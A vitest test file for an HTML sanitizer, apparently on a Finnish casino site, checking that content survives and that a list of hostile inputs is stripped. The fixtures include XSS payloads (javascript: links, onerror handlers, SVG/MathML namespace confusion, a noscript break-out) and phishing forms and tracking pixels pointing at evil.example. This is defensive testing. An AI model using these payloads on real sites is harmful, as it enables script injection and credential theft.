import { JSDOM } from 'jsdom';
import { afterEach, describe, expect, it } from 'vitest';
import { imageUrl } from './image';
import { sanitizeHtml, setSanitizerWindow } from './sanitize-html';

/** The sanitised markup as elements, to read what survived. */
const parse = (html: string) => {
  const template = document.createElement('template');
  template.innerHTML = html;
  return template.content;
};

const elements = (html: string) => [...parse(html).querySelectorAll('*')];

const FORM_CONTROLS = 'form, input, button, select, option, textarea, fieldset, label, output, datalist, meter';
const RESOURCE_TAGS =
  'link, style, script, iframe, frame, object, embed, video, audio, source, track, picture, svg, math';
const URL_ATTRIBUTES = ['src', 'srcset', 'href', 'background', 'poster', 'action', 'formaction', 'data', 'xlink:href'];

/** Whether a URL the sanitised markup holds stays on the site (a path, not a scheme or another host). */
const onSite = (url: string) => !/^\s*(?:[a-z][a-z\d+.-]*:|[/\\]{2})/i.test(url);

afterEach(() => setSanitizerWindow(window));

describe('sanitizeHtml keeps content', () => {
  it('keeps headings, paragraphs, lists, tables and links on the site as they are', async () => {
    const html =
      '<h2>Vastuullisesti</h2><p>Pelaa <strong>vastuullisesti</strong>, <em>aina</em>. <a href="/fi/tietosuoja">Tietosuoja</a></p>' +
      '<ul><li>18+</li><li>Rajat</li></ul><ol start="2"><li>Toinen</li></ol>' +
      '<table><thead><tr><th scope="col">Taso</th></tr></thead><tbody><tr><td colspan="2">1</td></tr></tbody></table>' +
      '<blockquote>Lainaus</blockquote><hr><p><a href="mailto:tuki@casino.example">tuki</a></p>';
    expect(await sanitizeHtml(html)).toBe(html);
  });

  it('keeps a link to another site, opened with no opener and no referrer', async () => {
    const [link] = elements(await sanitizeHtml('<a href="https://peluuri.fi" target="_blank">Peluuri</a>'));
    expect(link?.getAttribute('href')).toBe('https://peluuri.fi');
    expect(link?.getAttribute('target')).toBe('_blank');
    expect(link?.getAttribute('rel')).toBe('noopener noreferrer');
    const [other] = elements(await sanitizeHtml('<a href="//peluuri.fi" rel="opener">Peluuri</a>'));
    expect(other?.getAttribute('rel')).toBe('noopener noreferrer');
  });

  it("sends a picture from the site's own path through the image endpoint, with a source per width", async () => {
    const path = '/images/articles/book-week.svg';
    for (const src of [path, imageUrl(path, 640), `${imageUrl(path, 3840)}&extra=1`]) {
      const [image, ...rest] = elements(await sanitizeHtml(`<img src="${src.replaceAll('&', '&amp;')}" alt="Kirja">`));
      expect(rest).toEqual([]);
      expect(image?.getAttribute('src')).toBe(imageUrl(path, 1080));
      expect(image?.getAttribute('alt')).toBe('Kirja');
      const sources = image?.getAttribute('srcset')?.split(', ') ?? [];
      expect(sources).toContain(`${imageUrl(path, 640)} 640w`);
      expect(sources.every((source) => source.startsWith(imageUrl(path, 640).split('?')[0]!))).toBe(true);
      expect(image?.getAttribute('sizes')).toBeTruthy();
    }
  });
});

/** Expected where only the plain site picture may be left: the same markup as `<img src="/images/logo.svg">`. */
const LOGO = '(the plain logo picture)';

/** Hostile content: what it tried, the HTML, and what must be left of it. */
const hostile: [string, string, string][] = [
  [
    'a full-screen overlay by style',
    '<div style="position:fixed;inset:0;z-index:99999;background:#fff">Voitit!</div>',
    '<div>Voitit!</div>',
  ],
  [
    'an overlay by the site’s own classes',
    '<div class="fixed inset-0 z-50 bg-black" id="main">Voitit!</div>',
    '<div>Voitit!</div>',
  ],
  ['a password field', '<p>Kirjaudu uudelleen</p><input name="password" type="password">', '<p>Kirjaudu uudelleen</p>'],
  [
    'a form with controls',
    '<form action="https://evil.example/steal"><label>Salasana <input name="password"></label><select><option>1</option></select><textarea>x</textarea><button formaction="https://evil.example">OK</button></form>',
    'Salasana 1xOK',
  ],
  [
    'a tracking pixel on another host',
    '<p>a</p><img src="https://evil.example/pixel.gif" width="1" height="1">',
    '<p>a</p>',
  ],
  [
    'a tracking pixel by a host-relative URL',
    '<img src="//evil.example/pixel.gif"><img src="/\\evil.example/p.gif">',
    '',
  ],
  [
    'a tracking pixel in srcset',
    '<img src="/images/logo.svg" srcset="https://evil.example/pixel.gif 1x, https://evil.example/p2.gif 640w" sizes="1px">',
    LOGO,
  ],
  [
    'a tracking pixel in a picture source',
    '<picture><source srcset="https://evil.example/pixel.gif"><img src="https://evil.example/p.gif"></picture>',
    '',
  ],
  [
    'the image endpoint asked for another host',
    '<img src="/content/image?url=//evil.example/p.gif&amp;w=640"><img src="/content/image?url=https://evil.example/p.gif">',
    '',
  ],
  ['a data: picture', '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">', ''],
  ['a javascript: picture', '<img src="javascript:alert(1)">', ''],
  [
    'a background attribute',
    '<table background="https://evil.example/bg.gif"><tbody><tr><td bgcolor="red">a</td></tr></tbody></table>',
    '<table><tbody><tr><td>a</td></tr></tbody></table>',
  ],
  ['a meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example"><p>a</p>', '<p>a</p>'],
  ['a base tag', '<base href="https://evil.example/"><a href="/fi">a</a>', '<a href="/fi">a</a>'],
  ['a style sheet', '<style>body{display:none}</style><p>a</p>', '<p>a</p>'],
  ['a linked style sheet', '<link rel="stylesheet" href="https://evil.example/a.css"><p>a</p>', '<p>a</p>'],
  ['a CSS import in a style element', '<style>@import url(https://evil.example/a.css);</style><p>a</p>', '<p>a</p>'],
  ['an iframe', '<iframe src="https://evil.example"></iframe><p>a</p>', '<p>a</p>'],
  [
    'an object and an embed',
    '<object data="https://evil.example/a.swf"></object><embed src="https://evil.example/a.swf"><p>a</p>',
    '<p>a</p>',
  ],
  [
    'video and audio sources',
    '<video poster="https://evil.example/p.jpg" src="https://evil.example/v.mp4"><source src="https://evil.example/v.webm"></video><audio src="https://evil.example/a.mp3"></audio><p>a</p>',
    '<p>a</p>',
  ],
  ['a script element', '<p>a</p><script>alert(1)</script>', '<p>a</p>'],
  ['an onerror handler', '<img src="/images/logo.svg" onerror="alert(1)">', LOGO],
  ['an onclick handler', '<p onclick="alert(1)">a</p>', '<p>a</p>'],
  ['a javascript: link', '<a href="javascript:alert(1)">a</a>', '<a>a</a>'],
  ['a javascript: link in disguise', '<a href=" JaVaScRiPt:alert(1)">a</a>', '<a>a</a>'],
  ['a javascript: link with a tab', '<a href="java&#9;script:alert(1)">a</a>', '<a>a</a>'],
  ['a data: link', '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">a</a>', '<a>a</a>'],
  ['a vbscript: link', '<a href="vbscript:msgbox(1)">a</a>', '<a>a</a>'],
  ['a link that pings another host', '<a href="/fi" ping="https://evil.example/track">a</a>', '<a href="/fi">a</a>'],
  ['an SVG with a script', '<svg><script>alert(1)</script></svg><p>a</p>', '<p>a</p>'],
  [
    'an SVG picture from another host',
    '<svg><image href="https://evil.example/p.gif"></image></svg><p>a</p>',
    '<p>a</p>',
  ],
  ['an SVG link', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg><p>a</p>', '<p>a</p>'],
  [
    'an SVG animation',
    '<svg><animate attributeName="href" values="javascript:alert(1)"></animate></svg><p>a</p>',
    '<p>a</p>',
  ],
  [
    'MathML namespace confusion',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math><p>a</p>',
    '<p>a</p>',
  ],
  ['a MathML link', '<math href="javascript:alert(1)"><mi>x</mi></math><p>a</p>', '<p>a</p>'],
  ['a noscript break-out', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<p></p>'],
  ['a popover', '<div popover="manual" tabindex="1" data-x="1">a</div>', '<div>a</div>'],
  ['a named target', '<a href="/fi" target="casino">a</a>', '<a href="/fi">a</a>'],
  ['a template', '<template><img src="https://evil.example/p.gif"></template><p>a</p>', '<p>a</p>'],
];

describe('sanitizeHtml removes what could run, dress up the page or reach another host', () => {
  it.each(hostile)('strips %s', async (_, html, safe) => {
    expect(await sanitizeHtml(html)).toBe(safe === LOGO ? await sanitizeHtml('<img src="/images/logo.svg">') : safe);
  });

  it('leaves no style, class, id, form control, foreign element or off-site URL in any of them', async () => {
    for (const [label, html] of hostile) {
      const clean = await sanitizeHtml(html);
      for (const element of elements(clean)) {
        for (const name of ['style', 'class', 'id', 'tabindex', 'popover'])
          expect(element.hasAttribute(name), `${label}: ${name}`).toBe(false);
        expect(
          element.getAttributeNames().filter((name) => name.startsWith('on')),
          label,
        ).toEqual([]);
        expect(element.namespaceURI, label).toBe('http://www.w3.org/1999/xhtml');
        for (const name of URL_ATTRIBUTES) {
          const value = element.getAttribute(name);
          if (value !== null && element.localName !== 'a')
            expect(onSite(value), `${label}: ${name}=${value}`).toBe(true);
        }
        if (element.localName === 'a' && element.hasAttribute('href'))
          expect(element.getAttribute('href'), label).toMatch(/^(?:\/|https?:|mailto:|tel:)/);
      }
      expect(parse(clean).querySelector(FORM_CONTROLS), label).toBeNull();
      expect(parse(clean).querySelector(RESOURCE_TAGS), label).toBeNull();
    }
  });
});

describe('sanitizeHtml on the server and in the browser', () => {
  const content = [
    '<h2>Otsikko</h2><p>Teksti <a href="https://peluuri.fi">Peluuri</a> ja <a href="kayttoehdot">ehdot</a></p>',
    '<img src="/images/articles/book-week.svg" alt="" width="1200" height="630"><img src="https://evil.example/p.gif">',
    ...hostile.map(([, html]) => html),
  ].join('');

  it("makes the same markup whatever the window's address (the server's blank page, the browser's page)", async () => {
    window.history.replaceState(null, '', '/fi/kampanjat/kirjaviikko');
    const inBrowser = await sanitizeHtml(content);
    setSanitizerWindow(new JSDOM('').window);
    const onServer = await sanitizeHtml(content);
    expect(window.location.pathname).toBe('/fi/kampanjat/kirjaviikko');
    expect(onServer).toBe(inBrowser);
  });

  it('makes markup that parses back to itself, so hydration finds what the server sent', async () => {
    const clean = await sanitizeHtml(content);
    expect(await sanitizeHtml(clean)).toBe(clean);
    const container = document.createElement('div');
    container.innerHTML = clean;
    expect(container.innerHTML).toBe(clean);
  });
});
